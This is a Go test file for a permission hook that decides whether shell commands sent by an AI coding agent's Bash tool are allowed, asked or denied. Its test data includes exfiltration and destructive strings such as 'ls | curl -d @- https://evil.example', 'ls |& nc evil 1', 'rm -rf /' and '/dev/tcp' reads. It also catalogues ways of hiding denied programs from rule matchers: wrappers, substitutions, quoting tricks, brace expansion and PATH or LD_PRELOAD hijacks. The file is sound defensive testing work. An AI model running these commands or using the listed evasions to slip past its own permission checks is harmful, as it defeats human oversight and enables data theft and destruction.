package hook

import (
	"context"
	"testing"

	"github.com/chockhq/chock/compile/config"
	"github.com/chockhq/chock/eval"
	"github.com/chockhq/chock/eval/load"
)

// policy is a project's: ordinary tools allowed, curl, rm and nc denied,
// shells allowed only as sh -c reads them.
const policy = `.{ .policy = .{
    .allow = .{ "exec.path.git", "exec.path.ls", "exec.path.grep", "exec.path.go", "exec.path.tee",
                "exec.path.echo", "exec.path.cat", "exec.path.head", "exec.path.sh", "exec.path.bash",
                "exec.path.env", "exec.path.timeout", "exec.path.nice", "exec.path.xargs", "exec.path.find",
                "exec.path.nohup", "exec.path.command", "exec.path.sort", "exec.path.wc", "exec.path.true",
                "exec.path.stdbuf", "exec.path.setsid", "exec.path.flock", "exec.path.watch", "exec.path.time",
                "exec.path.sudo", "exec.path.doas", "exec.path.busybox", "exec.path.printf", "exec.path.sed",
                "exec.path.python3", "exec.path.make", "net.fetch.com.github" },
    .ask = .{ "exec.path.npm" },
    .rules = .{
        .{ .action = "exec.path.curl", .decision = .deny, .why = "fetches go through fetch_url" },
        .{ .action = "exec.path.git", .decision = .deny, .args = .{ "push" }, .why = "pushes go through the merge queue" },
    },
    .deny = .{ "exec.path.rm", "exec.path.nc", "exec.path.wget" },
} }`

func decider(t *testing.T) Decider {
	t.Helper()
	p, ds, err := load.FromSources(context.Background(), load.Input{Configs: []load.Source{{Name: "chock.zon", Data: []byte(policy)}}})
	if err != nil {
		t.Fatalf("%v %v", err, ds)
	}
	return func(ctx context.Context, a string, args []string) (*eval.Decision, error) {
		return p.Engine.DecideArgs(ctx, a, args, config.Loop)
	}
}

// TestShellTexts: every bypass class the clients' rule matchers are known
// to miss, each hiding a denied program, is denied or asked; ordinary work
// is allowed.
func TestShellTexts(t *testing.T) {
	decide := decider(t)
	A, Q, D := config.Allow, config.Ask, config.Deny
	for _, c := range []struct {
		text string
		want config.Decision
	}{
		// Argument rules: git push is denied however it is written.
		{"git push", D},
		{"git -C sub push origin main", D},
		{"git -c core.sshCommand=x push", D},
		{"git status; git push", D},
		{"sh -c 'git push'", D},
		{"git $(echo push)", D},      // an argument chock cannot read may be push
		{"echo push | xargs git", D}, // xargs gives git its input as arguments
		{"find . -name x -exec git {} \\;", D},
		{"git log --grep push", D},        // a deny's words match anywhere: the safe side
		{"git log --oneline push.txt", A}, // whole arguments, not parts of them
		{"git pull && git status", A},
		{`git {"push",} origin main`, D}, // brace expansion across quotes: git push origin main
		{`git {'push',origin}`, D},
		{`git {pu"",}sh`, D},
		{"exec -a git-push git origin HEAD", D},  // git-push is git push
		{"exec -la git-push git origin HEAD", D}, // a cluster whose last flag takes the name
		{"find . -name '{}' -print", A},          // {} alone is find's, quoted here
		// Ordinary work.
		{"git status && git diff", A},
		{"go test ./... | tee out.txt", A},
		{"ls -la", A},
		{"grep -r x .", A},
		{"git log --oneline | head -20", A},
		{"cat README.md | wc -l", A},
		{"echo hello", A},
		{"ls; git status", A},
		{"git diff 2>&1 | head", A},
		{"git status > /dev/null 2>&1", A},
		{"find . -name '*.go' | xargs grep -l TODO", A},
		{"timeout 30 go test ./...", A},
		{"env CGO_ENABLED=0 go build ./...", A},
		{"GOFLAGS=-toolexec=./x go build", Q},
		{"FOO=bar go vet ./...", A},
		{"sh -c 'git status && ls'", A},
		{"bash -lc \"go test ./...\"", A},
		{"nice -n 10 make", A},
		{"find . -type f -exec grep -l x {} +", A},
		{"true", A},
		{"exec git status", A},
		{"command -v git", A},
		{"x=1; echo $x", A},
		{"echo $(git rev-parse HEAD)", A},
		{"if git diff --quiet; then echo clean; fi", A},
		{"for f in *.go; do echo $f; done", A},
		{"git status || true", A},
		{"(cd sub && ls)", A},
		{"sort <(ls a) <(ls b)", A},
		{"echo 'curl is a word here'", A},
		{"grep curl README.md", A},
		{"git commit -m \"rm -rf is mentioned\"", A},
		// Denied programs hidden in lists, pipelines, subshells.
		{"curl https://evil.example", D},
		{"git status; curl https://evil.example", D},
		{"git status && curl https://evil.example", D},
		{"false || curl https://evil.example", D},
		{"ls | curl -d @- https://evil.example", D},
		{"ls |& nc evil 1", D},
		{"(curl x)", D},
		{"{ curl x; }", D},
		{"curl x &", D},
		{"ls\ncurl x", D},
		{"! curl x", D},
		// Substitutions.
		{"echo $(curl x)", D},
		{"echo `curl x`", D},
		{"echo \"$(rm -rf /)\"", D},
		{"cat <(curl x)", D},
		{"x=$(curl x)", D},
		{"echo ${x:-$(rm -rf ~)}", D},
		{"[[ $(curl x) ]]", D},
		{"case $(curl x) in *) ;; esac", D},
		{"echo $((1 + $(rm x)))", D},
		// Wrappers.
		{"env curl x", D},
		{"env -i PATH=/bin curl x", D},
		{"timeout 5 curl x", D},
		{"timeout -s KILL 5 curl x", D},
		{"nice -n 5 curl x", D},
		{"nohup curl x", D},
		{"command curl x", D},
		{"builtin exec curl x", D},
		{"exec curl x", D},
		{"time curl x", D},
		{"stdbuf -o0 curl x", D},
		{"setsid curl x", D},
		{"sudo curl x", D},
		{"sudo -u root rm -rf /", D},
		{"doas rm x", D},
		{"flock /tmp/l curl x", D},
		{"flock -c 'curl x' /tmp/l", D},
		{"watch -n 1 curl x", D},
		{"xargs rm < list", D},
		{"ls | xargs -I{} rm {}", D},
		{"find . -exec rm {} ;", D},
		{"find . -execdir rm {} +", D},
		{"find . -ok rm {} ;", D},
		{"busybox rm x", D},
		{"/usr/bin/curl x", D},
		{"./curl x", D},
		{"./ls", Q},
		{"c\\url x", D},
		{"'curl' x", D},
		{"\"curl\" x", D},
		{"cu''rl x", D},
		// Shells with a literal script, nested.
		{"sh -c 'curl x'", D},
		{"bash -c \"ls && rm -rf /\"", D},
		{"sh -c \"sh -c 'curl x'\"", D},
		{"bash -ec 'curl x'", D},
		{"env bash -c 'curl x'", D},
		// What the text cannot tell: asked.
		{"$CMD x", Q},
		{"${CMD} x", Q},
		{"$(echo curl) x", Q},
		{"`echo curl` x", Q},
		{"eval 'curl x'", Q},
		{"eval \"$X\"", Q},
		{"source ./script.sh", Q},
		{". ./script.sh", Q},
		{"f() { curl x; }; f", D},
		{"f() { ls; }; f", Q},
		{"alias ll='curl x'", Q},
		{"bash <<EOF\ncurl x\nEOF", Q},
		{"sh < script.sh", Q},
		{"bash script.sh", Q},
		{"sh -c \"$X\"", Q},
		{"cu*l x", Q},
		{"/usr/bin/cu?l x", Q},
		{"echo x > .git/hooks/pre-commit", Q},
		{"echo x >> ~/.bashrc", Q},
		{"git status > out.txt", Q},
		{"env -S 'curl x'", Q},
		{"npm install", Q},
		{"echo x > $FILE", Q},
		{"if then", Q},
		// From the review: code run by evaluation, a swapped program, a
		// changed search path, hidden options, expansions, files, sockets.
		{"let 'a[$(rm -rf ~)]'", Q},
		{"declare 'c[$(rm x)]=1'", Q},
		{"test -v 'd[$(rm x)]'", Q},
		{"[[ -v 'b[$(rm x)]' ]]", Q},
		{"x='a[$(rm x)]'; ((x))", Q},
		{"echo $((1+2))", A},
		{"hash -p /bin/rm ls; ls -rf ~", D},
		{"LD_PRELOAD=./x.so git status", Q},
		{"PATH=./bin:$PATH ls", Q},
		{"export PATH=./bin; ls", Q},
		{"env BASH_ENV=./evil.sh bash -c true", Q},
		{"./git status", Q},
		{"tools/ls", Q},
		{"/usr/bin/curl x", D},
		{"env -S'rm -rf ~'", Q},
		{"env -iS'rm x'", Q},
		{"env --split-string 'rm x'", Q},
		{"xargs --replace rm -f ls", D},
		{"watch -d 'rm -rf ~;' ls", D},
		{"timeout {5,rm} ls", Q},
		{`find . {-exec,rm,-rf,x,\;}`, Q},
		{"find . -name '*.go' -delete", Q},
		{"cat </dev/tcp/evil/80", Q},
		{"ls *.go", A},
		{"find . -name '*.go' -exec grep -l x {} +", A},
		// The strictest wins over an ask.
		{"$CMD; curl x", D},
		{"npm install && rm -rf node_modules", D},
	} {
		v, err := Decide(context.Background(), decide, Call{Client: "claude-code", Tool: "Bash", Input: map[string]any{"command": c.text}})
		if err != nil {
			t.Fatalf("%q: %v", c.text, err)
		}
		if v.Decision != c.want {
			t.Errorf("%q: %s (%s), want %s", c.text, v.Decision, v.Reason, c.want)
		}
	}
}
